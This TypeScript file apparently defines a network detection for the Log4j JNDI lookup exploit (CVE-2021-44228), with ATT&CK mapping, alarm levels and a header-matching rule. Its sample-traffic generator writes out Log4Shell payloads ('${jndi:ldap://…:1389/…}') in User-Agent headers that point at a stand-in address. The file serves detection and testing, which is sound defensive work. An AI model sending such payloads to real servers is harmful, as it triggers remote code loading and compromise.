/** A header asks a vulnerable Java logger to fetch code (CVE-2021-44228). */
import { detection, many } from './shared/define.ts';
import { web } from './shared/web.ts';
import { documentationAddress, victimSites } from './shared/words.ts';

export const jndiLookup = detection({
  name: 'jndi-lookup',
  category: 'exploit',
  attack: { tactics: ['Initial Access'], technique: 'T1190', techniqueName: 'Exploit Public-Facing Application' },
  killChain: { intent: 'Exploitation & Installation', strategy: 'Code Execution', method: 'Log4j JNDI Lookup' },
  first: { id: 58601, sid: 1000071 },
  alarms: {
    'jndi-ldap': {
      name: 'EXPLOIT - JNDI lookup over LDAP in header',
      severity: 'critical',
      weight: 110,
      scheme: 'ldap',
    },
    'jndi-dns': {
      name: 'EXPLOIT - JNDI lookup over DNS in header',
      severity: 'high',
      weight: 54,
      scheme: 'dns',
    },
    'jndi-rmi': {
      name: 'EXPLOIT - JNDI lookup over RMI in header',
      severity: 'critical',
      weight: 27,
      scheme: 'rmi',
    },
  },
  variants: (row, chance) =>
    many(8, () =>
      web({
        host: chance.pick(victimSites),
        uri: chance.pick(['/', '/login', '/api/v1/status', '/solr/admin/cores']),
        agent: `\${jndi:${row.scheme}://${documentationAddress(chance)}:1389/${chance.hex(6)}}`,
        status: chance.pick([200, 404]),
      }),
    ),
  rule: (row) => ({
    protocol: 'http',
    contents: [{ in: 'http.header', text: `\${jndi:${row.scheme}://`, nocase: true }],
  }),
});
